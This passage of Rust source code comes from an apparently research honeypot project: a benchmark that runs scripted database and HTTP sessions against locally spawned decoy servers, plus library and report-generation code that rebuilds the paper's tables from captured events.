//! The emitted JSON matches the committed `BENCH_wire.json` schema, so a
//! networked machine can regenerate the file in place; `decoy-xtask
//! analyze` tracks placeholder freshness of the committed copy.

use decoy_net::framed::Framed;
use decoy_net::time::Clock;
use decoy_store::{ConfigVariant, Dbms, EventStore, HoneypotId, InteractionLevel};
use decoy_wire::mongo::bson::doc;
use decoy_wire::mongo::{MongoBody, MongoCodec, MongoMessage};
use decoy_wire::{http, mysql, pgwire, resp, tds};
use std::io::IoSlice;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::task::{Context, Poll};
use std::time::Instant;
use tokio::io::{AsyncRead, AsyncWrite, ReadBuf};
use tokio::net::TcpStream;

/// A stream wrapper that counts bytes in both directions at the socket.
struct Counted {
    inner: TcpStream,
    bytes: Arc<AtomicU64>,
}

impl AsyncRead for Counted {
    fn poll_read(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        buf: &mut ReadBuf<'_>,
    ) -> Poll<std::io::Result<()>> {
        let before = buf.filled().len();
        let poll = Pin::new(&mut self.inner).poll_read(cx, buf);
        if let Poll::Ready(Ok(())) = &poll {
            let n = buf.filled().len().saturating_sub(before);
            self.bytes.fetch_add(n as u64, Ordering::Relaxed);
        }
        poll
    }
}

impl AsyncWrite for Counted {
    fn poll_write(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        buf: &[u8],
    ) -> Poll<std::io::Result<usize>> {
        let poll = Pin::new(&mut self.inner).poll_write(cx, buf);
        if let Poll::Ready(Ok(n)) = &poll {
            self.bytes.fetch_add(*n as u64, Ordering::Relaxed);
        }
        poll
    }

    fn poll_write_vectored(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        bufs: &[IoSlice<'_>],
    ) -> Poll<std::io::Result<usize>> {
        let poll = Pin::new(&mut self.inner).poll_write_vectored(cx, bufs);
        if let Poll::Ready(Ok(n)) = &poll {
            self.bytes.fetch_add(*n as u64, Ordering::Relaxed);
        }
        poll
    }

    fn is_write_vectored(&self) -> bool {
        self.inner.is_write_vectored()
    }

    fn poll_flush(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<std::io::Result<()>> {
        Pin::new(&mut self.inner).poll_flush(cx)
    }

    fn poll_shutdown(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<std::io::Result<()>> {
        Pin::new(&mut self.inner).poll_shutdown(cx)
    }
}

async fn dial(addr: SocketAddr, bytes: Arc<AtomicU64>) -> std::io::Result<Counted> {
    let inner = TcpStream::connect(addr).await?;
    inner.set_nodelay(true)?;
    Ok(Counted { inner, bytes })
}

type Fail = Box<dyn std::error::Error + Send + Sync>;

/// One scripted pgwire session: startup, cleartext auth, one query, quit.
async fn pg_session(addr: SocketAddr, bytes: Arc<AtomicU64>) -> Result<(), Fail> {
    let stream = dial(addr, bytes).await?;
    let mut f = Framed::new(stream, pgwire::PgClientCodec::new());
    f.write_frame(&pgwire::FrontendMessage::Startup {
        params: vec![
            ("user".into(), "postgres".into()),
            ("database".into(), "postgres".into()),
        ],
    })
    .await?;
    loop {
        match f.read_frame().await?.ok_or("closed during auth")? {
            pgwire::BackendMessage::AuthenticationCleartextPassword
            | pgwire::BackendMessage::AuthenticationMd5Password { .. } => {
                f.write_frame(&pgwire::FrontendMessage::Password("postgres".into()))
                    .await?;
            }
            pgwire::BackendMessage::ReadyForQuery { .. } => break,
            pgwire::BackendMessage::ErrorResponse { .. } => return Err("login rejected".into()),
            _ => continue,
        }
    }
    f.write_frame(&pgwire::FrontendMessage::Query("SELECT version();".into()))
        .await?;
    loop {
        match f.read_frame().await?.ok_or("closed mid query")? {
            pgwire::BackendMessage::ReadyForQuery { .. } => break,
            _ => continue,
        }
    }
    f.write_frame(&pgwire::FrontendMessage::Terminate).await?;
    Ok(())
}

/// MySQL: greeting, login, one COM_QUERY result set, COM_QUIT.
async fn mysql_session(addr: SocketAddr, bytes: Arc<AtomicU64>) -> Result<(), Fail> {
    let stream = dial(addr, bytes).await?;
    let mut f = Framed::new(stream, mysql::MySqlCodec);
    let greeting = f.read_frame().await?.ok_or("no greeting")?;
    mysql::Greeting::parse(&greeting.payload)?;
    let login = mysql::LoginRequest::cleartext("root", "wire", None);
    f.write_frame(&mysql::MySqlPacket {
        seq: greeting.seq.wrapping_add(1),
        payload: login.build(),
    })
    .await?;
    let reply = f.read_frame().await?.ok_or("no auth reply")?;
    if reply.payload.first() != Some(&0x00) {
        return Err("login rejected".into());
    }
    let mut q = vec![0x03];
    q.extend_from_slice(b"SELECT @@version");
    f.write_frame(&mysql::MySqlPacket {
        seq: 0,
        payload: q.into(),
    })
    .await?;
    // column-count, definition, EOF, row, EOF
    for _ in 0..5 {
        f.read_frame().await?.ok_or("result truncated")?;
    }
    f.write_frame(&mysql::MySqlPacket {
        seq: 0,
        payload: vec![0x01].into(),
    })
    .await?;
    Ok(())
}

/// RESP: PING, SET, GET.
async fn resp_session(addr: SocketAddr, bytes: Arc<AtomicU64>) -> Result<(), Fail> {
    let stream = dial(addr, bytes).await?;
    let mut f = Framed::new(stream, resp::RespCodec::client());
    for cmd in [
        resp::RespValue::command(&["PING"]),
        resp::RespValue::command(&["SET", "wire:probe", "1"]),
        resp::RespValue::command(&["GET", "wire:probe"]),
    ] {
        f.write_frame(&cmd).await?;
        f.read_frame().await?.ok_or("server closed")?;
    }
    Ok(())
}

/// TDS: prelogin exchange, LOGIN7, error token (the brute-force hot path).
async fn tds_session(addr: SocketAddr, bytes: Arc<AtomicU64>) -> Result<(), Fail> {
    let stream = dial(addr, bytes).await?;
    let mut f = Framed::new(stream, tds::TdsCodec);
    f.write_frame(&tds::TdsPacket::eom(
        tds::PKT_PRELOGIN,
        tds::build_prelogin(&[
            (0x00, vec![15, 0, 0, 0, 0, 0].into()),
            (0x01, vec![2].into()),
        ]),
    ))
    .await?;
    f.read_frame().await?.ok_or("no prelogin reply")?;
    let login = tds::Login7 {
        hostname: "WIRE-LOAD".into(),
        username: "sa".into(),
        password: "wire".into(),
        appname: "wire_load".into(),
        servername: addr.ip().to_string(),
        database: String::new(),
    };
    f.write_frame(&tds::TdsPacket::eom(tds::PKT_LOGIN7, login.build()))
        .await?;
    f.read_frame().await?.ok_or("no login reply")?;
    Ok(())
}

/// MongoDB: isMaster then buildInfo over OP_MSG.
async fn mongo_session(addr: SocketAddr, bytes: Arc<AtomicU64>) -> Result<(), Fail> {
    let stream = dial(addr, bytes).await?;
    let mut f = Framed::new(stream, MongoCodec);
    let mut rid = 0i32;
    for cmd in [
        doc! { "isMaster" => 1i32, "$db" => "admin" },
        doc! { "buildInfo" => 1i32, "$db" => "admin" },
    ] {
        rid += 1;
        f.write_frame(&MongoMessage::msg(rid, cmd)).await?;
        let reply = f.read_frame().await?.ok_or("server closed")?;
        if !matches!(reply.body, MongoBody::Msg { .. }) {
            return Err("unexpected reply opcode".into());
        }
    }
    Ok(())
}

/// HTTP: banner GET plus a `_search` POST.
async fn http_session(addr: SocketAddr, bytes: Arc<AtomicU64>) -> Result<(), Fail> {
    let stream = dial(addr, bytes).await?;
    let mut f = Framed::new(stream, http::HttpClientCodec);
    for req in [
        http::HttpRequest::new("GET", "/"),
        http::HttpRequest::new("POST", "/_search")
            .with_body("application/json", r#"{"query":{"match_all":{}}}"#),
    ] {
        f.write_frame(&req).await?;
        f.read_frame().await?.ok_or("server closed")?;
    }
    Ok(())
}

/// Per-protocol results.
struct ProtoReport {
    proto: &'static str,
    sessions: usize,
    errors: usize,
    wall_secs: f64,
    latencies_ms: Vec<f64>,
    bytes: u64,
}

impl ProtoReport {
    fn percentile(&self, p: f64) -> f64 {
        if self.latencies_ms.is_empty() {
            return 0.0;
        }
        let rank = (p * (self.latencies_ms.len() - 1) as f64).round() as usize;
        self.latencies_ms[rank.min(self.latencies_ms.len() - 1)]
    }

    fn json(&self) -> serde_json::Value {
        let ok = self.sessions - self.errors;
        serde_json::json!({
            "sessions": self.sessions,
            "errors": self.errors,
            "sessions_per_sec": (ok as f64 / self.wall_secs * 10.0).round() / 10.0,
            "p50_ms": (self.percentile(0.50) * 1000.0).round() / 1000.0,
            "p99_ms": (self.percentile(0.99) * 1000.0).round() / 1000.0,
            "bytes_per_sec": (self.bytes as f64 / self.wall_secs).round(),
        })
    }
}

type SessionFn = fn(
    SocketAddr,
    Arc<AtomicU64>,
) -> Pin<Box<dyn std::future::Future<Output = Result<(), Fail>> + Send>>;

/// Drive `sessions` scripted sessions against `addr` with `concurrency`
/// parallel clients; returns the aggregated report.
async fn drive(
    proto: &'static str,
    addr: SocketAddr,
    sessions: usize,
    concurrency: usize,
    run: SessionFn,
) -> ProtoReport {
    let bytes = Arc::new(AtomicU64::new(0));
    let started = Instant::now();
    let mut workers = tokio::task::JoinSet::new();
    let per_worker = sessions.div_ceil(concurrency.max(1));
    let mut assigned = 0usize;
    for _ in 0..concurrency.max(1) {
        let n = per_worker.min(sessions - assigned);
        if n == 0 {
            break;
        }
        assigned += n;
        let bytes = bytes.clone();
        workers.spawn(async move {
            let mut latencies = Vec::with_capacity(n);
            let mut errors = 0usize;
            for _ in 0..n {
                let t0 = Instant::now();
                if run(addr, bytes.clone()).await.is_err() {
                    errors += 1;
                }
                latencies.push(t0.elapsed().as_secs_f64() * 1000.0);
            }
            (latencies, errors)
        });
    }
    let mut latencies_ms = Vec::with_capacity(sessions);
    let mut errors = 0usize;
    while let Some(res) = workers.join_next().await {
        if let Ok((lat, err)) = res {
            latencies_ms.extend(lat);
            errors += err;
        }
    }
    let wall_secs = started.elapsed().as_secs_f64().max(1e-9);
    latencies_ms.sort_by(|a, b| a.partial_cmp(b).unwrap_or(std::cmp::Ordering::Equal));
    ProtoReport {
        proto,
        sessions,
        errors,
        wall_secs,
        latencies_ms,
        bytes: bytes.load(Ordering::Relaxed),
    }
}

fn parse_args() -> (usize, usize, Option<String>) {
    let mut sessions = 200usize;
    let mut concurrency = 8usize;
    let mut out = None;
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--sessions" => {
                sessions = args.next().and_then(|v| v.parse().ok()).unwrap_or(sessions);
            }
            "--concurrency" => {
                concurrency = args
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or(concurrency);
            }
            "--out" => out = args.next(),
            "--help" | "-h" => {
                eprintln!(
                    "usage: wire_load [--sessions N] [--concurrency C] [--out BENCH_wire.json]"
                );
                std::process::exit(0);
            }
            other => {
                eprintln!("unknown argument: {other}");
                std::process::exit(2);
            }
        }
    }
    (sessions, concurrency, out)
}

fn main() {
    let (sessions, concurrency, out) = parse_args();
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .expect("tokio runtime");
    let report = runtime.block_on(run_all(sessions, concurrency));
    let rendered = serde_json::to_string_pretty(&report).expect("render report");
    match out {
        Some(path) => {
            std::fs::write(&path, format!("{rendered}\n")).expect("write report");
            eprintln!("wrote {path}");
        }
        None => println!("{rendered}"),
    }
}

async fn run_all(sessions: usize, concurrency: usize) -> serde_json::Value {
    use decoy_honeypots::deploy::{spawn, HoneypotSpec};

    let targets: [(&'static str, HoneypotId, SessionFn); 6] = [
        (
            "pgwire",
            HoneypotId::new(
                Dbms::Postgres,
                InteractionLevel::Medium,
                ConfigVariant::Default,
                0,
            ),
            |a, b| Box::pin(pg_session(a, b)),
        ),
        (
            "mysql",
            HoneypotId::new(
                Dbms::MySql,
                InteractionLevel::Medium,
                ConfigVariant::Default,
                0,
            ),
            |a, b| Box::pin(mysql_session(a, b)),
        ),
        (
            "resp",
            HoneypotId::new(
                Dbms::Redis,
                InteractionLevel::Medium,
                ConfigVariant::Default,
                0,
            ),
            |a, b| Box::pin(resp_session(a, b)),
        ),
        (
            "tds",
            HoneypotId::new(
                Dbms::Mssql,
                InteractionLevel::Low,
                ConfigVariant::MultiService,
                0,
            ),
            |a, b| Box::pin(tds_session(a, b)),
        ),
        (
            "mongo",
            HoneypotId::new(
                Dbms::MongoDb,
                InteractionLevel::High,
                ConfigVariant::FakeData,
                0,
            ),
            |a, b| Box::pin(mongo_session(a, b)),
        ),
        (
            "http",
            HoneypotId::new(
                Dbms::Elastic,
                InteractionLevel::Medium,
                ConfigVariant::Default,
                0,
            ),
            |a, b| Box::pin(http_session(a, b)),
        ),
    ];

    let mut per_proto = serde_json::Map::new();
    for (proto, id, run) in targets {
        let store = EventStore::new();
        let spec = HoneypotSpec::loopback(id, Clock::simulated(), 11);
        let hp = spawn(store.clone(), spec).await.expect("spawn honeypot");
        let report = drive(proto, hp.addr(), sessions, concurrency, run).await;
        hp.shutdown().await;
        eprintln!(
            "{:>6}: {:8.1} sessions/s  p50 {:7.3} ms  p99 {:7.3} ms  {:10.0} bytes/s  ({} errors)",
            report.proto,
            (report.sessions - report.errors) as f64 / report.wall_secs,
            report.percentile(0.50),
            report.percentile(0.99),
            report.bytes as f64 / report.wall_secs,
            report.errors,
        );
        per_proto.insert(proto.to_string(), report.json());
    }

    serde_json::json!({
        "bench": "wire_load",
        "command": format!(
            "cargo run -p decoy-bench --release --bin wire_load -- --sessions {sessions} --concurrency {concurrency}"
        ),
        "dataset": {
            "sessions_per_protocol": sessions,
            "concurrency": concurrency,
            "note": "loopback TCP against the deploy-spec honeypots; scripted client sessions per protocol (auth + one command where the protocol has one)"
        },
        "targets": serde_json::Value::Object(per_proto),
    })
}
