#![forbid(unsafe_code)]
//! # decoy-bench
//!
//! Criterion benchmark targets, one per table/figure of the paper (each
//! prints the regenerated artifact next to the paper's values, then times
//! the analysis that produces it) plus protocol/clustering micro-benches
//! and the ablation benches called out in DESIGN.md.
//!
//! All experiment benches share one direct-mode run (fixed seed and scale)
//! cached in a `OnceLock`, so `cargo bench` regenerates every artifact from
//! the same dataset — like the paper's pipeline operating on one capture.

use decoy_core::runner::{run, ExperimentConfig, ExperimentResult};
use decoy_core::Report;
use std::sync::OnceLock;

/// Scale of the shared benchmark dataset (2 % of paper volume keeps the
/// full `cargo bench` run in minutes while preserving every table's shape).
pub const BENCH_SCALE: f64 = 0.02;
/// Seed of the shared benchmark dataset.
pub const BENCH_SEED: u64 = 20240322;

static SHARED: OnceLock<ExperimentResult> = OnceLock::new();
static REPORT: OnceLock<Report> = OnceLock::new();

/// The shared direct-mode experiment result (computed once per process).
pub fn shared_run() -> &'static ExperimentResult {
    SHARED.get_or_init(|| {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .expect("tokio runtime");
        runtime
            .block_on(run(ExperimentConfig::direct(BENCH_SEED, BENCH_SCALE)))
            .expect("experiment run")
    })
}

/// The full report over the shared run.
pub fn shared_report() -> &'static Report {
    REPORT.get_or_init(|| Report::generate(shared_run()))
}

/// Print one report section (the artifact regeneration step of each bench).
pub fn print_section(id: &str) {
    let report = shared_report();
    match report.section(id) {
        Some(section) => {
            println!("\n==== {} — {} ====", section.id, section.title);
            println!("{}", section.body);
        }
        None => println!("section {id} missing"),
    }
}
