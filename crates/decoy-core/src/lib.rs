#![warn(missing_docs)]
#![forbid(unsafe_code)]

//! # decoy-core
//!
//! Orchestration for the full Decoy Databases experiment:
//!
//! * [`deployment`] — the Table 4 deployment plan (278 honeypots at paper
//!   scale: 220 low-interaction on multi/single-service VMs, 40 medium, 8
//!   high across eight countries), scalable, with deterministic instance
//!   seeds shared by both execution modes.
//! * [`runner`] — builds the population, expands the 20-day schedule, and
//!   replays it either over real TCP against live honeypots (`Network`) or
//!   straight into the event store (`Direct`), advancing a shared simulated
//!   clock.
//! * [`report`] — regenerates every table and figure of the paper from the
//!   collected events, annotated with the paper's published values for
//!   side-by-side comparison (EXPERIMENTS.md is generated from this).
//!   Besides the batch path, the report folds: segment-streamed from a
//!   journal with bounded memory ([`Report::from_journal_streaming`]),
//!   merged across sharded journal directories ([`Report::from_shards`]),
//!   or re-rendered live while a run is still writing ([`LiveReport`]).

pub mod deployment;
pub mod report;
pub mod runner;

pub use deployment::{DeploymentPlan, InstanceRef};
pub use report::{LiveReport, Report};
pub use runner::{ExperimentConfig, ExperimentResult, Mode};
