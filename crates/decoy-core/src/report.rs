//! Regenerate every table and figure of the paper from a finished run.
//!
//! Each section pairs the measured values with the paper's published
//! numbers so the shape comparison of EXPERIMENTS.md falls straight out of
//! `Report::render_text()`. Scale-dependent quantities (counts, volumes)
//! are compared as ratios/rankings; scale-invariant ones (percentages,
//! orderings, who-wins) directly.
//!
//! Every generation path funnels into one section pipeline,
//! [`render_sections`], which renders the paper from a sealed
//! [`AnalysisFrame`] plus the three inputs no event carries (volume scale,
//! planted bait, final fleet snapshot). [`Report::generate`] folds the
//! in-memory store into one frame ("fold one partial, seal");
//! [`Report::from_journal_streaming`] folds a journal segment by segment
//! with peak memory bounded by the largest segment;
//! [`Report::from_shards`] merges per-segment partial frames from several
//! journal directories into one global report; and [`LiveReport`] keeps a
//! running fold over a journal that is still being written.
//! [`Report::generate_legacy`] is the original per-section store-scanning
//! pipeline, kept as the byte-identical reference the golden test compares
//! against. All paths share the same formatting functions, so any
//! divergence is a data bug, not a formatting one.

use crate::deployment::DeploymentPlan;
use crate::runner::{ExperimentConfig, ExperimentResult};
use decoy_analysis::classify::{
    classify_sources, classify_view, Behavior, BehaviorProfile, ClassCounts,
};
use decoy_analysis::cluster::{cluster_sources, cluster_view, refine_by_behavior};
use decoy_analysis::ecdf::{retention_days, retention_days_view, single_day_fraction, Ecdf};
use decoy_analysis::fleet::{fleet_totals, fleet_uptime, fleet_uptime_events, ListenerUptime};
use decoy_analysis::fold::PartialFrame;
use decoy_analysis::frame::{AnalysisFrame, FrameKind, FrameView, Partition};
use decoy_analysis::honeytokens::{detect_reuse, detect_reuse_view, HoneytokenReport};
use decoy_analysis::intel::{coverage, IntelFeed};
use decoy_analysis::tables;
use decoy_analysis::tagging::{tag_sources, tag_sources_view, CampaignTag};
use decoy_analysis::timeseries::{hourly_series, hourly_series_view, HourlySeries};
use decoy_analysis::upset::{upset, upset_view, UpSet};
use decoy_geo::{GeoDb, GeoEnricher};
use decoy_net::supervisor::FleetHealth;
use decoy_net::time::EXPERIMENT_START;
use decoy_store::{
    ConfigVariant, Dbms, EventKind, EventStore, InteractionLevel, JournalError, JournalErrorKind,
    JournalReader, JournalTail, RecoveryStats,
};
use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::net::IpAddr;
use std::sync::Arc;

/// The medium/high honeypot families of §6.
pub const MED_HIGH_FAMILIES: [Dbms; 4] =
    [Dbms::Elastic, Dbms::MongoDb, Dbms::Postgres, Dbms::Redis];

/// Distance threshold used when cutting the Ward dendrogram. Chosen so
/// campaign-identical bots collapse while distinct scripts stay apart
/// (validated against the Table 8 cluster counts in EXPERIMENTS.md).
pub const CLUSTER_CUT: f64 = 0.05;

/// One generated section.
#[derive(Debug, Clone)]
pub struct Section {
    /// Artifact id, e.g. `Table 5`.
    pub id: String,
    /// Title.
    pub title: String,
    /// Preformatted body.
    pub body: String,
}

/// The full report.
pub struct Report {
    /// Sections in paper order.
    pub sections: Vec<Section>,
}

impl Report {
    /// Build every artifact from a finished run.
    ///
    /// Folds the store into one [`PartialFrame`] and seals it (the only
    /// full event scan), then renders every section concurrently from that
    /// shared view. Sections land in paper order regardless of completion
    /// order.
    pub fn generate(result: &ExperimentResult) -> Report {
        let enricher = GeoEnricher::new(Arc::clone(&result.geo));
        let frame = AnalysisFrame::build_with(&result.store, &enricher);
        let sections = render_sections(
            &frame,
            result.config.scale,
            &fake_data_bait(&result.plan),
            result.fleet.as_ref(),
        );
        Report { sections }
    }

    /// Build every artifact from a spooled journal directory instead of a
    /// live run. Since the report depends only on the event stream plus
    /// values derived deterministically from `config`, this is simply
    /// [`Report::from_journal_streaming`]: the journal is folded segment by
    /// segment (torn tails truncated, corruption surfaced in the returned
    /// [`RecoveryStats`], never a panic) without ever materializing the
    /// whole store. On a fault-free journal of a run with the same config,
    /// the rendered report is byte-identical to the one the original
    /// process would have produced. Forensic workflows that need the events
    /// themselves should use [`decoy_store::recover_full_store`].
    pub fn from_journal(
        config: ExperimentConfig,
        dir: impl AsRef<std::path::Path>,
    ) -> std::io::Result<(Report, RecoveryStats)> {
        Report::from_journal_streaming(config, dir)
    }

    /// Stream a journal directory segment by segment, folding each closed
    /// segment into a running [`PartialFrame`] and sealing once at the end.
    /// Peak memory is bounded by the largest single segment plus the fold
    /// itself — the whole event store is never resident. Replay strictness
    /// matches the total recovery path: the fold halts at the first
    /// corruption or sequence gap, later decodable records are counted as
    /// dropped, and a torn tail on the final segment (the normal crash
    /// shape) is truncated silently.
    pub fn from_journal_streaming(
        config: ExperimentConfig,
        dir: impl AsRef<std::path::Path>,
    ) -> std::io::Result<(Report, RecoveryStats)> {
        let reader = JournalReader::open(dir)?;
        let geo = GeoDb::builtin();
        let enricher = GeoEnricher::new(geo);
        let (partial, stats) = fold_journal(&reader, &enricher);
        let frame = partial.seal();
        let plan =
            DeploymentPlan::scaled_with(config.seed, config.deployment_scale, config.extensions);
        let sections = render_sections(&frame, config.scale, &fake_data_bait(&plan), None);
        Ok((Report { sections }, stats))
    }

    /// Join several journal directories — shards of one logical run, keyed
    /// by global sequence number — into a single report. Each shard's
    /// segments are folded into per-segment [`PartialFrame`]s anchored at
    /// their first sequence number and merged; the merge deduplicates
    /// replicated segments and keeps disjoint ranges in global order, so
    /// shard order on the command line does not matter. The join is
    /// lenient per shard (a shard's own torn tail is swallowed as
    /// truncation), but if the union of shards leaves a hole in the global
    /// sequence range the first gap is surfaced as a
    /// [`JournalErrorKind::SequenceGap`] in the returned stats while the
    /// report still renders from everything that survived.
    pub fn from_shards<P: AsRef<std::path::Path>>(
        config: ExperimentConfig,
        dirs: &[P],
    ) -> std::io::Result<(Report, RecoveryStats)> {
        let geo = GeoDb::builtin();
        let enricher = GeoEnricher::new(geo);
        let mut merged = PartialFrame::new(0);
        let mut stats = RecoveryStats::default();
        for dir in dirs {
            let reader = JournalReader::open(dir)?;
            for next in reader.segments() {
                stats.segments_scanned = stats.segments_scanned.saturating_add(1);
                let batch = match next {
                    Ok(batch) => batch,
                    Err(err) => {
                        if stats.error.is_none() {
                            stats.error = Some(JournalError {
                                segment: stats.segments_scanned.saturating_sub(1),
                                offset: 0,
                                kind: JournalErrorKind::Io {
                                    message: err.to_string(),
                                },
                            });
                        }
                        continue;
                    }
                };
                stats.records_dropped = stats.records_dropped.saturating_add(batch.records_dropped);
                stats.bytes_truncated = stats.bytes_truncated.saturating_add(batch.bytes_truncated);
                if !batch.header_ok {
                    // the segment contributed nothing; the coverage check
                    // below surfaces the hole it leaves
                    if stats.error.is_none() {
                        stats.error = batch.error;
                    }
                    continue;
                }
                if let Some(err) = batch.error {
                    if stats.error.is_none() {
                        stats.error = Some(err);
                    }
                }
                let mut partial = PartialFrame::new(batch.first_seq);
                for event in &batch.events {
                    partial.push(event, &enricher);
                }
                merged = PartialFrame::merge(merged, partial);
            }
        }
        stats.records_kept = merged.span();
        if stats.error.is_none() {
            if let Some((expected, found)) = coverage_gap(&merged.run_ranges()) {
                stats.error = Some(JournalError {
                    segment: 0,
                    offset: 0,
                    kind: JournalErrorKind::SequenceGap { expected, found },
                });
            }
        }
        let frame = merged.seal();
        let plan =
            DeploymentPlan::scaled_with(config.seed, config.deployment_scale, config.extensions);
        let sections = render_sections(&frame, config.scale, &fake_data_bait(&plan), None);
        Ok((Report { sections }, stats))
    }

    /// The pre-frame generation path: every section re-scans the store
    /// through cloning indexes and per-event geo lookups. Kept as the
    /// reference implementation; must render byte-identically to
    /// [`Report::generate`].
    pub fn generate_legacy(result: &ExperimentResult) -> Report {
        let store = &result.store;
        let geo = &result.geo;
        let low =
            EventStore::from_events(store.filter(|e| e.honeypot.level == InteractionLevel::Low));
        let med_high =
            EventStore::from_events(store.filter(|e| e.honeypot.level != InteractionLevel::Low));

        let mut sections = Vec::new();
        sections.push(sec5_summary(&low, geo, result.config.scale));
        sections.push(fig2(
            &low,
            None,
            "Figure 2",
            "all low-interaction honeypots",
        ));
        for (dbms, fig) in [
            (Dbms::Mssql, "Figure 6"),
            (Dbms::MySql, "Figure 7"),
            (Dbms::Postgres, "Figure 8"),
            (Dbms::Redis, "Figure 9"),
        ] {
            sections.push(fig2(&low, Some(dbms), fig, dbms.label()));
        }
        sections.push(fig3(&low));
        sections.push(fmt_table5(tables::logins_by_country(&low, geo)));
        sections.push(fmt_table6(tables::asn_table(&low, geo)));
        sections.push(fmt_table7(tables::astype_login_ips(&low, geo)));
        sections.push(fmt_table12(tables::top_credentials(&low, Dbms::Mssql, 10)));
        sections.push(fmt_fig4(upset(&med_high, &MED_HIGH_FAMILIES)));
        sections.push(fmt_table8(table8_data(&med_high)));
        sections.push(fmt_table9(table9_data(&med_high)));
        sections.push(fmt_table10(tables::exploit_countries(
            &med_high,
            geo,
            &MED_HIGH_FAMILIES,
        )));
        sections.push(fmt_table11(tables::astype_behavior(
            &med_high,
            geo,
            &MED_HIGH_FAMILIES,
        )));
        sections.push(fmt_fig5(
            &classify_sources(&med_high, None),
            &retention_days(&med_high, None, EXPERIMENT_START),
        ));
        sections.push(fmt_sec5_control(tables::control_group_summary(&low)));
        sections.push(fmt_sec6_config(sec6_config_data(store)));
        sections.push(fmt_sec6_fake_data(&detect_reuse(
            &result.store,
            &fake_data_bait(&result.plan),
        )));
        sections.push(sec6_intel(&low, &med_high));
        sections.push(sec_detectability(store));
        sections.push(sec_fleet(result));
        Report { sections }
    }

    /// Render everything as a text report.
    pub fn render_text(&self) -> String {
        let mut out = String::new();
        for section in &self.sections {
            let _ = writeln!(out, "==== {} — {} ====", section.id, section.title);
            out.push_str(&section.body);
            out.push('\n');
        }
        out
    }

    /// Find a section by id.
    pub fn section(&self, id: &str) -> Option<&Section> {
        self.sections.iter().find(|s| s.id == id)
    }
}

// ---------------------------------------------------------------------------
// The section pipeline — shared by every frame-based generation path
// ---------------------------------------------------------------------------

/// Render every section of the paper, in order, from one sealed
/// [`AnalysisFrame`]. This is the single section pipeline: the batch path
/// ([`Report::generate`]), the streaming paths
/// ([`Report::from_journal_streaming`], [`LiveReport`]) and the shard join
/// ([`Report::from_shards`]) all feed it a frame plus the three inputs no
/// event carries — the volume scale, the planted bait credentials, and the
/// optional final fleet snapshot.
fn render_sections(
    frame: &AnalysisFrame,
    scale: f64,
    bait: &[(String, String)],
    fleet: Option<&FleetHealth>,
) -> Vec<Section> {
    std::thread::scope(|s| {
        let low = frame.view(Partition::Low);
        let mh = frame.view(Partition::MedHigh);
        let all = frame.view(Partition::All);
        let mut handles = Vec::new();
        handles.push(s.spawn(move || sec5_summary_frame(low, scale)));
        handles.push(
            s.spawn(move || fig2_frame(low, None, "Figure 2", "all low-interaction honeypots")),
        );
        for (dbms, fig) in [
            (Dbms::Mssql, "Figure 6"),
            (Dbms::MySql, "Figure 7"),
            (Dbms::Postgres, "Figure 8"),
            (Dbms::Redis, "Figure 9"),
        ] {
            handles.push(s.spawn(move || fig2_frame(low, Some(dbms), fig, dbms.label())));
        }
        handles.push(s.spawn(move || fig3_frame(low)));
        handles.push(s.spawn(move || fmt_table5(tables::logins_by_country_view(low))));
        handles.push(s.spawn(move || fmt_table6(tables::asn_table_view(low))));
        handles.push(s.spawn(move || fmt_table7(tables::astype_login_ips_view(low))));
        handles
            .push(s.spawn(move || fmt_table12(tables::top_credentials_view(low, Dbms::Mssql, 10))));
        handles.push(s.spawn(move || fmt_fig4(upset_view(mh, &MED_HIGH_FAMILIES))));
        handles.push(s.spawn(move || fmt_table8(table8_data_frame(mh))));
        handles.push(s.spawn(move || fmt_table9(table9_data_frame(mh))));
        handles.push(
            s.spawn(move || fmt_table10(tables::exploit_countries_view(mh, &MED_HIGH_FAMILIES))),
        );
        handles.push(
            s.spawn(move || fmt_table11(tables::astype_behavior_view(mh, &MED_HIGH_FAMILIES))),
        );
        handles.push(s.spawn(move || {
            fmt_fig5(
                &classify_view(mh, None),
                &retention_days_view(mh, None, EXPERIMENT_START),
            )
        }));
        handles.push(s.spawn(move || fmt_sec5_control(tables::control_group_summary_view(low))));
        handles.push(s.spawn(move || fmt_sec6_config(sec6_config_data_frame(all))));
        handles.push(s.spawn(move || fmt_sec6_fake_data(&detect_reuse_view(all, bait))));
        handles.push(s.spawn(move || sec6_intel_frame(low, mh)));
        handles.push(s.spawn(move || sec_detectability_frame(all)));
        handles.push(s.spawn(move || fmt_fleet(fleet_uptime_events(frame.health_events()), fleet)));
        handles
            .into_iter()
            .map(|h| h.join().expect("report section thread panicked"))
            .collect()
    })
}

/// Fold a journal directory segment by segment into one [`PartialFrame`],
/// with replay strictness that mirrors the total recovery path: halt at the
/// first corruption, I/O failure, or inter-segment sequence gap; count
/// decodable records found after the halt as dropped (the drop scan); and
/// truncate a torn tail on the *final* segment silently — that is the
/// normal crash shape, not damage. Only one segment's bytes are resident at
/// a time.
fn fold_journal(reader: &JournalReader, enricher: &GeoEnricher) -> (PartialFrame, RecoveryStats) {
    let mut partial = PartialFrame::new(0);
    let mut stats = RecoveryStats::default();
    let mut halted = false;
    let batches = reader.segments();
    let total = batches.len();
    for (pos, next) in batches.enumerate() {
        let is_final = pos.saturating_add(1) == total;
        stats.segments_scanned = stats.segments_scanned.saturating_add(1);
        let batch = match next {
            Ok(batch) => batch,
            Err(err) => {
                if stats.error.is_none() {
                    stats.error = Some(JournalError {
                        segment: stats.segments_scanned.saturating_sub(1),
                        offset: 0,
                        kind: JournalErrorKind::Io {
                            message: err.to_string(),
                        },
                    });
                }
                halted = true;
                continue;
            }
        };
        if halted {
            // drop scan: data past the first corruption exists on disk but
            // cannot be replayed without breaking order
            stats.records_dropped = stats
                .records_dropped
                .saturating_add(batch.events.len() as u64)
